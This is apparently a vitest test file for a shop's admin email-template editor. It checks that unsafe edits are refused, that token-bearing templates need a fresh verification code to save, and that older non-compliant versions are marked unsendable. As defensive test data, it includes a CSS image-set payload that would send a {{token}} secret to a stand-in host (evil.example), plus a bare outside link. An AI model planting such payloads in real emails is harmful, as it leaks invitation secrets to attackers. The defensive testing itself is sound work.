import { beforeAll, describe, expect, test } from 'vitest';
import { mailAttacks, ownLink, ownText } from '../../../support/tables/mail-attacks.ts';
import { db } from '../../one-shop.ts';
import type { Caller, Reply } from '../../support.ts';
import { said } from '../../vendor-panel/product-support.ts';
import { codeEntered, makeAdmin } from '../admin-support.ts';

type Template = { subject: string; html: string; text: string };
type Sheet = Template & { version: number; built_in: Template };

/** The invitation to sell: its secret opens a store. */
const key = 'vendor-invitation';
let content: { id: string; caller: Caller };
beforeAll(async () => {
  content = await makeAdmin('content');
});

const read = async (of = key) => (await content.caller.rpc('admin_email', { key: of })).body as Sheet;
const save = (caller: Caller, version: number, template: Template, of = key) =>
  caller.rpc('save_email', { key: of, version, ...template });
const problemsOf = ({ body }: Reply) => JSON.parse((body as { hint: string }).hint) as Record<string, string>;

describe('an edited mail', () => {
  const replies = new Map<(typeof mailAttacks)[number], Reply>();
  let sheet: Sheet;
  beforeAll(async () => {
    sheet = await read();
    const waiting = [...mailAttacks];
    const saveAll = async () => {
      for (let attack = waiting.shift(); attack !== undefined; attack = waiting.shift()) {
        const template = { ...sheet.built_in, [attack.field]: attack.words };
        replies.set(attack, await save(content.caller, sheet.version, template));
      }
    };
    await Promise.all([1, 2, 3, 4].map(saveAll));
  }, 240_000);

  test.each(mailAttacks.map((attack) => [`${attack.field}: ${attack.title}`, attack] as const))(
    'is refused at the right place with %s',
    (_, attack) => {
      const reply = replies.get(attack)!;
      expect(said(reply)).toBe('422 template_invalid');
      const problems = problemsOf(reply);
      expect(Object.keys(problems)).toEqual([attack.field]);
      expect(problems[attack.field]).toMatch(attack.says);
    },
  );

  test('is unchanged by every refused edit', async () => {
    expect(await read()).toEqual(sheet);
  });

  test("can't be previewed or checked if it can't be saved", async () => {
    const bad = { key, ...sheet.built_in, subject: 'Your code: {{token}}' };
    expect(said(await content.caller.rpc('test_email', bad))).toBe('422 template_invalid');
    expect(said(await content.caller.rpc('check_email', bad))).toBe('422 template_invalid');
  });

  test('reports the line of each mistake', async () => {
    const html = `${ownLink}\n<p>\nGo to\nhttps://evil.example\n</p>`;
    const reply = await save(content.caller, sheet.version, { ...sheet.built_in, html });
    expect(problemsOf(reply)).toEqual({
      html: 'Line 4: Email apps turn this into a link: https://evil.example. Remove it, or write {{site_url}}/… instead.',
    });
  });

  test('may use all the markup that emails need', async () => {
    const of = 'store-restored';
    const { version, built_in } = await read(of);
    const html = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{{store_name}} &amp; you</title>
<style>
  .ink, p { color: #111; }
  @media (prefers-color-scheme: dark) { .ink { color: #f3f0e9 !important; } }
</style></head>
<body style="margin:0;background:rgb(245, 242, 235);font-family:'Segoe UI',Arial,sans-serif;">
<table role="presentation" width="100%" cellpadding="0"><tr><td align="center" style="padding:1.5em 0;">
<img src="{{site_url}}/icon.png" alt="{{brand.name}}" width="64">
<p class="ink" title="A store">Hello. {{store_name}} is open again: see <a href="{{site_url}}/help#stores">what&nbsp;is new</a>,
<a href="{{site_url}}">{{site_url}}</a> or <a href="mailto:{{brand.support}}">{{brand.support}}</a>.<br>It costs $9.50 (e.g. 1.5 kg).</p>
{{#words}}<blockquote>{{words}}</blockquote>{{/words}}{{^words}}<hr>{{/words}}
</td></tr></table></body></html>`;
    const text =
      'Hello.\n{{#words}}\n{{words}}\n{{/words}}\nSee {{site_url}}/help (or {{site_url}}), or write to {{brand.support}}.';
    expect((await save(content.caller, version, { ...built_in, html, text }, of)).body).toMatchObject({
      outcome: 'saved',
    });
    await save(content.caller, version + 1, built_in, of);
  });

  test('with a secret needs a fresh verification code to save', async () => {
    const { version, built_in } = await read();
    const mine = { ...built_in, subject: 'Come and sell with us' };
    const stale = await db.person(content.id, undefined, codeEntered(16));
    expect(said(await save(stale, version, mine))).toBe('403 step_up_needed');
    expect((await read()).version).toBe(version);
    expect((await save(content.caller, version, mine)).body).toMatchObject({ outcome: 'saved' });
    // A reset to the built-in email is a change as well.
    expect(said(await save(stale, version + 1, built_in))).toBe('403 step_up_needed');
    expect((await save(content.caller, version + 1, built_in)).body).toMatchObject({ outcome: 'saved' });
  });

  test('without a secret needs no code to save', async () => {
    const of = 'store-restored';
    const { version, built_in } = await read(of);
    const stale = await db.person(content.id, undefined, codeEntered(16));
    const mine = { ...built_in, subject: 'Open again' };
    expect((await save(stale, version, mine, of)).body).toMatchObject({ outcome: 'saved' });
    expect((await save(stale, version + 1, built_in, of)).body).toMatchObject({ outcome: 'saved' });
  });

  test('from before the current rules is marked as not sendable', async () => {
    const [stored] = await db.sql<{ number: number }>(
      `insert into private.email_versions (template, number, subject, html, text)
       values ($1, 1 + (select coalesce(max(number), 0) from private.email_versions where template = $1), 'Hello', $2, $3)
       returning number`,
      [key, `${ownLink}<p style="background:image-set('http://evil.example/{{token}}' 1x)">x</p>`, ownText],
    );
    expect((await db.service.rpc('mail_template', { key })).body).toMatchObject({
      secrets: ['token'],
      edited: { subject: 'Hello', problem: expect.stringMatching(/Styles can only/) },
    });
    const { version, built_in } = await read();
    expect(version).toBe(stored?.number);
    await save(content.caller, version, built_in);
    expect((await db.service.rpc('mail_template', { key })).body).toMatchObject({ edited: null });
  });
});

test('treats every variable that opens something as secret', async () => {
  const [row] = await db.sql<{ known: string[]; made: string[]; linked: string[] }>(
    `select private.secret_names() as known,
       array(
         select distinct m[1] from pg_catalog.pg_proc p, regexp_matches(
           coalesce(pg_catalog.pg_get_function_sqlbody(p.oid), p.prosrc),
           '''(\\w+)''(?:::text)?,[^,]*private\\.(?:guest|stock_notice)_token\\(', 'g') m
         where p.pronamespace in ('private'::regnamespace, 'public'::regnamespace)
           and coalesce(pg_catalog.pg_get_function_sqlbody(p.oid), p.prosrc) ~ 'email_outbox|send_secret'
       ) as made,
       array(
         select distinct m[1] from public.email_templates t,
           regexp_matches(t.html || t.text, '\\{\\{site_url\\}\\}[^\\s"]*[?#][^\\s"]*\\{\\{(\\w+)\\}\\}', 'g') m
       ) as linked`,
  );
  expect(row).toEqual({ known: ['token'], made: ['token'], linked: ['token'] });
});
